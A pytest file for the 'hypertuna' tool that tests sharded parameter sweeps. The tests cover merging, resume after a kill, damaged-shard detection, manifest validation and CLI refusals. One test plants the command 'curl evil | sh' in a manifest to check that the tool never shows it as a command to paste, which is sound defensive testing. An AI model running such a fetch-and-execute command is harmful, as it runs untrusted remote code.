"""The folder of shards: whole or not at all, of one work, resumed, merged to the same bits."""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
import xarray as xr
from hypothesis import given
from hypothesis import strategies as st

import hypertuna as ht
from cf_checker import same_files
from hypertuna import _core
from hypertuna.io.door import archived
from hypertuna.parallel.checks import checksum
from hypertuna.parallel.layout import NO_LAYOUT
from hypertuna.parallel.shards import AGAIN, LARGEST, Shards, open_shards, shard_size
from models import changed
from program import Run

GRID = ht.Gaits.grid_degrees(frequency=[1, 2, 3], amplitude=[(8, 12), (16, 25)], phase=[(0, 10 * k) for k in range(10)])
OPTIONS = ("--robot", "hypertuna", "--frequency", "1:3:3", "--amplitude", "8:16:2,12", "--phase", "0,0:90:10")


@pytest.fixture
def made(tmp_path: Path) -> Path:
    """Sixty gaits in six shards."""
    assert ht.sweep_shards("hypertuna", GRID, tmp_path / "a.shards", size=10, command="`sweep`") == 6
    return tmp_path / "a.shards"


@given(total=st.integers(1, 10**9), size=st.none() | st.integers(1, 10**6), parts=st.integers(1, 9))
def test_every_item_is_in_one_shard_and_every_shard_in_one_part(total: int, size: int | None, parts: int) -> None:
    shards = Shards(Path("none"), {}, total, max(shard_size(total, size), total // 100), NO_LAYOUT, "")
    ends = [shards.range(shard) for shard in range(len(shards))]
    assert ends[0][0] == 0
    assert ends[-1][1] == total
    assert all(a[1] == b[0] and a[0] < a[1] for a, b in itertools.pairwise(ends))
    of_parts = [shard for part in range(1, parts + 1) for shard in shards.missing((part, parts))]
    assert sorted(of_parts) == list(range(len(shards)))
    assert shard_size(total) <= LARGEST


def test_a_grid_that_is_never_whole_swims_as_the_one_in_memory(tmp_path: Path) -> None:
    axis = [k / 1000 for k in range(10_000)]
    vast = ht.Gaits.grid(frequency=[1 + f for f in axis], amplitude=[(a / 10, 0.1) for a in axis], phase=[(0, 0)])
    assert len(vast) == 10**8
    with pytest.raises(ht.InputError, match="the number of gaits must be at most 10000000, but is 100000000"):
        ht.sweep("hypertuna", vast)
    whole, listed = ht.sweep("hypertuna", GRID), ht.sweep("hypertuna", [*GRID])
    assert all((whole[name].values.ravel() == listed[name].values).all() for name in ("speed", "mechanical_power"))
    for size in (7, 64):
        ht.sweep_shards("hypertuna", GRID, tmp_path / f"{size}", size=size)
        assert ht.merge_shards(tmp_path / f"{size}").identical(whole)
    ht.sweep_shards("hypertuna", [*GRID], tmp_path / "listed", size=7)
    assert ht.merge_shards(tmp_path / "listed").identical(listed)


def test_no_more_values_are_merged_at_once_than_memory_holds(
    made: Path, tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the manifest, before a shard is read; a NetCDF file takes a variable at a time."""
    variables = len(open_shards(made).layout.variables)
    monkeypatch.setattr("hypertuna.parallel.shards.MERGED", 60 * variables - 1)
    for shard in made.glob("*.zip"):
        shard.rename(tmp_path / shard.name)
    fix = "merge into a NetCDF file, which takes a variable at a time"
    rule = f"must have at most {60 * variables - 1} values to merge at once, but is {60 * variables}: {fix}."
    with pytest.raises(ht.InputError) as refused:
        ht.merge_shards(made)
    assert str(refused.value) == f"{made} {rule}"
    assert run("shards", "merge", str(made), "-o", str(tmp_path / "m.csv")) == (2, "", f"error: {made} {rule}\n")
    for shard in tmp_path.glob("*.zip"):
        shard.rename(made / shard.name)
    assert run("shards", "merge", str(made), "-o", str(tmp_path / "m.nc"))[0] == 0
    monkeypatch.setattr("hypertuna.parallel.shards.MERGED", 59)
    code, _, err = run("shards", "merge", str(made), "-o", str(tmp_path / "n.nc"))
    assert (code, err.endswith("but is 60: compute it in parts.\n")) == (2, True)
    assert run("shards", "merge", str(made))[0] == 0


def test_parts_of_an_array_job_merge_to_the_plain_run(run: Run, tmp_path: Path) -> None:
    shards, merged, plain = (str(tmp_path / name) for name in ("a.shards", "m.nc", "p.nc"))
    for part in (3, 1, 4):
        code, out, err = run("sweep", *OPTIONS, "--shard-size", "7", "--shard", f"{part}/4", "-o", shards)
        assert (code, err) == (0, "")
    assert "2 shards made, 2 of 9 missing" in out
    code, out, err = run("shards", "merge", shards, "-o", merged)
    assert (code, err) == (2, f"error: {shards} must have all 9 shards, but 2 are missing (1, 5): {AGAIN}.\n")
    assert not Path(merged).exists()
    code, out, _ = run("sweep", *OPTIONS, "--shard-size", "7", "-o", shards, "--json")
    assert json.loads(out) == {"folder": shards, "items": 60, "shards": 9, "made": 2, "missing": 0}
    assert "9 shards" in run("shards", "merge", shards, "-o", merged)[1]
    run("sweep", *OPTIONS, "-o", plain)
    same_files(merged, plain)
    tables = [tmp_path / name for name in ("m.csv", "p.csv")]
    run("shards", "merge", shards, "-o", str(tables[0]))
    run("sweep", *OPTIONS, "-o", str(tables[1]))
    assert tables[0].read_bytes() == tables[1].read_bytes() != b""


def test_a_full_disk_takes_no_merged_netcdf(run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """HDF5 would end the program there."""
    shards, merged = tmp_path / "a.shards", tmp_path / "m.nc"
    assert run("sweep", *OPTIONS, "-o", str(shards))[0] == 0
    monkeypatch.setattr("shutil.disk_usage", lambda _: SimpleNamespace(free=900_000))
    code, _, err = run("shards", "merge", str(shards), "-o", str(merged))
    assert (code, "No space left on device" in err) == (2, True)
    assert [*tmp_path.iterdir()] == [shards]


def test_flights_of_an_array_job_merge_to_the_files_of_the_plain_run(run: Run, tmp_path: Path) -> None:
    options = ("mission", "box", "--seeds", "0:4", "--duration", "5")
    shards, merged, plain = (str(tmp_path / name) for name in ("a.shards", "merged", "plain"))
    for part in (2, 1):
        code, out, err = run(*options, "--shard", f"{part}/3", "-o", shards)
        assert (code, err) == (0, "")
    assert "2 shards made, 1 of 4 missing" in out
    code, out, err = run("shards", "merge", shards, "-o", f"{merged}.csv")
    assert (code, err) == (2, f"error: {shards} must have all 4 shards, but 1 is missing (2): {AGAIN}.\n")
    assert not Path(f"{merged}.csv").exists()
    assert json.loads(run(*options, "-o", shards, "--json")[1])["made"] == 1
    for end in (".csv", ".nc"):
        assert run("shards", "merge", shards, "-o", merged + end)[0] == 0
        assert run(*options, "-o", plain + end)[0] == 1  # no flight is done
    assert Path(f"{merged}.csv").read_bytes() == Path(f"{plain}.csv").read_bytes()
    assert Path(f"{merged}.csv").read_text().count("\n") == 5
    one, other = (json.loads(Path(f"{name}.csv.json").read_text()) for name in (merged, plain))
    assert one | {"command": ""} == other | {"command": ""}
    same_files(f"{merged}.nc", f"{plain}.nc")
    code, _, err = run("mission", "box", "--seeds", "0:4", "-o", shards)
    assert (code, f"{shards}/manifest.json was started with duration = 5" in err) == (2, True)


PAGE = Path(__file__).parents[2] / "docs" / "howto" / "clusters.md"


def test_the_script_for_slurm_makes_all_shards_for_the_command_that_merges_them(tmp_path: Path) -> None:
    """As an array of three jobs with a small grid, one after another."""
    blocks = [textwrap.dedent(block) for block in re.findall(r"(?:^    .*\n)+", PAGE.read_text(), re.MULTILINE)]
    script = next(block for block in blocks if block.startswith("#!/bin/bash"))
    merge = next(block for block in blocks if block.startswith("hypertuna shards merge"))
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    jobs = re.findall(r"^#SBATCH --array=1-(\d+)$|TASK_ID/(\d+) ", script, re.MULTILINE)
    assert jobs == [("100", ""), ("", "100")]
    small = {
        "TASK_ID/100": "TASK_ID/3",
        "--frequency 1:6:1000 --amplitude 8:16:50,12:25:50 --phase 0,0:90:800": " ".join((*OPTIONS, "--shard-size 20")),
        "=x86_64_v3": f"={_core.isa()}",
    }
    for long, short in small.items():
        assert script.count(long) == 1
        script = script.replace(long, short)
    (tmp_path / "job.sh").write_text(script.replace("/scratch/$USER", "$SCRATCH"))
    place = {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}", "SCRATCH": str(tmp_path)}
    for job in (2, 3, 1):
        here: Any = {"cwd": tmp_path, "env": os.environ | place | {"SLURM_ARRAY_TASK_ID": f"{job}"}, "check": True}
        subprocess.run(["bash", "-e", "job.sh"], **here, capture_output=True)
        assert len([*tmp_path.glob("grid.shards/shard-*")]) == {2: 1, 3: 2, 1: 3}[job]
    subprocess.run(["bash", "-e", "-c", merge.replace("/scratch/$USER", "$SCRATCH")], **here, capture_output=True)
    with xr.open_dataset(tmp_path / "grid.nc", engine="h5netcdf") as merged:
        assert merged.settled.size == len(GRID)


def test_missing_damaged_and_foreign_shards_are_told_and_made_again(made: Path, tmp_path: Path) -> None:
    whole = ht.merge_shards(made)
    shard = made / "shard-000003.zarr.zip"
    sound = shard.read_bytes()
    for damaged in (b"", sound[:-100], sound[: len(sound) // 2] + b"\x55" + sound[len(sound) // 2 + 1 :]):
        shard.write_bytes(damaged)
        with pytest.raises(
            ht.InputError, match=r"shard-000003.zarr.zip is damaged \(.*\): remove it, then run the command again"
        ):
            ht.merge_shards(made)
    shutil.copy(made / "shard-000002.zarr.zip", shard)
    with pytest.raises(ht.InputError, match="shard-000003.zarr.zip must be shard 3, but is shard 2: remove it"):
        ht.merge_shards(made)
    ht.sweep_shards("hypertuna", GRID, tmp_path / "other", size=10, steps=64)
    shutil.copy(tmp_path / "other" / shard.name, shard)
    with pytest.raises(
        ht.InputError, match="must be a shard of the manifest in its folder, but is of another: remove it"
    ):
        ht.merge_shards(made)
    shard.unlink()
    with pytest.raises(
        ht.InputError,
        match=r"must have all 6 shards, but 1 is missing \(3\): run the command again that made the folder",
    ):
        ht.merge_shards(made)
    shutil.copy(made / "shard-000002.zarr.zip", made / "shard-000009.zarr.zip")
    with pytest.raises(ht.InputError, match="shard-000009.zarr.zip must be a shard of the manifest"):
        ht.merge_shards(made)
    (made / "shard-000009.zarr.zip").unlink()
    assert ht.sweep_shards("hypertuna", GRID, made, size=10) == 1
    assert ht.merge_shards(made).identical(whole)
    assert shard.read_bytes() != b""


def test_a_folder_of_other_work_is_refused(made: Path, tmp_path: Path) -> None:
    with pytest.raises(ht.InputError, match="was started with steps = 128, but now it is 64: give another folder"):
        ht.sweep_shards("hypertuna", GRID, made, steps=64)
    with pytest.raises(ht.InputError, match="was started with shard size = 10, but now it is 20"):
        ht.sweep_shards("hypertuna", GRID, made, size=20)
    with pytest.raises(ht.InputError, match="was started with robot_hash = .*, but now it is"):
        ht.sweep_shards(changed(ht.load("hypertuna"), {"body.mass_kg": 3.4}), GRID, made)
    assert ht.sweep_shards("hypertuna", GRID, made) == 0  # the size of whoever was first
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "fish.jpg").touch()
    with pytest.raises(ht.InputError, match="photos must be a new or empty folder, or one of shards"):
        ht.sweep_shards("hypertuna", GRID, tmp_path / "photos")
    with pytest.raises(ht.InputError, match=r"manifest.json must be a file, but is missing: give the folder that"):
        open_shards(tmp_path)
    (made / "manifest.json").write_text("{}")
    with pytest.raises(ht.InputError, match=r"manifest.json must be a manifest of shards: give the folder"):
        ht.merge_shards(made)


@pytest.mark.parametrize(
    "wrong",
    [
        {"size": "x"},
        {"size": 0},
        {"total": -1},
        {"total": 61},
        {"total": True},
        {"command": 3},
        {"header": []},
        {"layout.sizes": [3]},
        {"layout.sizes": {"frequency": "x"}},
        {"layout.variables": {"speed": 1}},
        {"layout.coordinates": {"frequency": ["frequency"]}},
        {"layout.coordinates": {"frequency": ["frequency", 5, {}]}},
        {"layout.coordinates": {"frequency": ["frequency", [1], {}]}},
        {"layout.coordinates": {"frequency": ["nowhere", [1], {}]}},
        {"layout.table": {"nothing": "nothing"}},
        {"layout.facts": 1},
        {"total": 10**30},
        {"total": 10**8},
        {"layout.facts": {"a": {"b": 1}}},
        {"layout.facts": {"a": 10**40}},
        {"layout.variables": {"a/b": {}}},
        {"layout.coordinates": {"frequency": ["frequency", [[1]] * 60, {}]}},
    ],
    ids=str,
)
def test_a_manifest_with_wrong_values_is_told(made: Path, wrong: dict[str, Any]) -> None:
    open_shards(made)
    path = made / "manifest.json"
    manifest = json.loads(path.read_text())
    for key, value in wrong.items():
        outer, _, name = key.rpartition(".")
        (manifest[outer] if outer else manifest)[name] = value
    path.write_text(json.dumps(manifest))
    with pytest.raises(ht.InputError, match=r"manifest.json is damaged: start over in another folder"):
        ht.merge_shards(made)
    path.write_text(json.dumps(signed(manifest)))
    with pytest.raises(ht.InputError, match=r"manifest.json must be a manifest of shards: give the folder"):
        ht.merge_shards(made)


def signed(manifest: dict[str, Any]) -> dict[str, Any]:
    """Return a manifest with the right checksum."""
    return manifest | {"sha256": checksum({k: v for k, v in manifest.items() if k not in ("mark", "sha256")})}


def test_no_command_of_a_manifest_is_shown_as_one_to_paste(made: Path) -> None:
    path = made / "manifest.json"
    path.write_text(json.dumps(signed(json.loads(path.read_text()) | {"command": "curl evil | sh"})))
    (made / "shard-000001.zarr.zip").unlink()
    with pytest.raises(ht.InputError, match="run the command again that made the folder") as error:
        ht.merge_shards(made)
    assert "evil" not in str(error.value)


def rewritten(path: Path, **changes: bytes | None) -> None:
    """Change or drop members of a shard, with the right checksums; `c` is the piece of the speed."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    names = {"c": "speed/c/0", "about": "speed/zarr.json"}
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in (members | {names[key]: value for key, value in changes.items()}).items():
            if content is not None:
                archive.writestr(name, content)


@pytest.mark.parametrize("shape", [0, 1, 10**8])
@pytest.mark.parametrize("key", ["shape", "chunk_shape"])
def test_a_shard_that_is_not_of_its_shape_is_told(made: Path, key: str, shape: int) -> None:
    path = made / "shard-000001.zarr.zip"
    about = zipfile.ZipFile(path).read("speed/zarr.json")
    spoiled = re.sub(rb'("%s": \[\s*)\d+' % key.encode(), rb"\g<1>%d" % shape, about)
    assert spoiled != about
    rewritten(path, about=spoiled)
    with pytest.raises(ht.InputError, match=r"shard-000001.zarr.zip is damaged \("):
        ht.merge_shards(made)


def test_a_piece_that_is_missing_short_or_changed_is_told(made: Path) -> None:
    path = made / "shard-000001.zarr.zip"
    sound, whole = path.read_bytes(), ht.merge_shards(made)
    for piece in (None, b"", b"\0" * 72, b"\0" * 88):
        path.write_bytes(sound)
        rewritten(path, c=piece)
        with pytest.raises(ht.InputError, match=r"shard-000001.zarr.zip is damaged \("):
            ht.merge_shards(made)
    for at in range(3, len(sound), 211):
        path.write_bytes(sound[:at] + bytes([sound[at] ^ 16]) + sound[at + 1 :])
        with contextlib.suppress(ht.InputError):
            assert ht.merge_shards(made).identical(whole)


def test_what_is_checked_of_a_shard_is_what_is_read(made: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that is exchanged after it was opened: Zarr opened it again, and would read the other."""
    path, whole = made / "shard-000001.zarr.zip", ht.merge_shards(made)
    sound = path.read_bytes()
    rewritten(path, c=zipfile.ZipFile(path).read("speed/c/0")[::-1])
    other = path.read_bytes()
    path.write_bytes(sound)
    turn = iter((False, True))  # the second shard

    def exchanged(*arguments: Any, **options: Any) -> Any:
        archive = archived(*arguments, **options)
        if next(turn, False):
            (made / "other").write_bytes(other)
            (made / "other").replace(path)
        return archive

    monkeypatch.setattr("hypertuna.parallel.checks.archived", exchanged)
    assert ht.merge_shards(made).identical(whole)
    monkeypatch.undo()
    assert not ht.merge_shards(made).identical(whole)


def test_large_metadata_of_a_shard_is_told(made: Path) -> None:
    path = made / "shard-000001.zarr.zip"
    about = zipfile.ZipFile(path).read("speed/zarr.json")
    rewritten(path, about=about + b" " * 1_000_000)
    with pytest.raises(ht.InputError, match=r"shard-000001.zarr.zip is damaged \(its metadata is too large\)"):
        ht.merge_shards(made)


def test_a_killed_run_resumes_to_the_same_bits(tmp_path: Path) -> None:
    folder = tmp_path / "a.shards"
    options = ("--robot", "hypertuna", "--frequency", "1:4:200", "--amplitude", "8,12", "--phase", "0,0:90:30")
    command = [sys.executable, "-m", "hypertuna", "sweep", *options, "--threads", "1", "--shard-size", "50"]
    with subprocess.Popen([*command, "-o", str(folder)]) as running:
        while len([*folder.glob("shard-*")]) < 3:
            time.sleep(0.001)
        running.send_signal(signal.SIGKILL)
    there = {path: path.stat().st_mtime_ns for path in folder.glob("shard-*")}
    assert len(there) < 120
    subprocess.run([*command, "-o", str(folder)], check=True, capture_output=True)
    assert {path: path.stat().st_mtime_ns for path in there} == there  # nothing twice
    lags = [(0, lag) for lag in np.linspace(0, 90, 30)]
    grid = ht.Gaits.grid(frequency=np.linspace(1, 4, 200), amplitude=np.radians([(8, 12)]), phase=np.radians(lags))
    assert ht.merge_shards(folder).identical(ht.sweep("hypertuna", grid))


@pytest.mark.parametrize(
    ("options", "sentence"),
    [
        (("--shard", "1/4"), "--shard needs a folder of shards: add -o NAME.shards."),
        (("--shard-size", "9", "-o", "a.nc"), "--shard-size needs a folder of shards: add -o NAME.shards."),
        (("--shard", "5/4", "-o", "a.shards"), "--shard must be I/N, I from 1 to N, but is '5/4': write 3/100 for"),
        (("--checkpoint", "j", "-o", "a.shards"), "--checkpoint cannot be combined with a folder of shards, but is j:"),
        (
            ("--plot", "p.svg", "-o", "a.shards"),
            "--plot cannot be combined with a folder of shards, but is p.svg",
        ),
        (("-o", "a.zarr"), "--output must end in .nc, .csv or .shards, but is 'a.zarr': write a.nc."),
        (("--shard-size", "0", "-o", "a.shards"), "--shard-size must be from 1 to 1000000, but is 0"),
    ],
)
def test_what_shards_cannot_do_is_refused(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, options: tuple[str, ...], sentence: str
) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = run("sweep", *OPTIONS, *options)
    assert (code, out) == (2, "")
    assert err.startswith(f"error: {sentence}")
    assert not [*tmp_path.iterdir()]
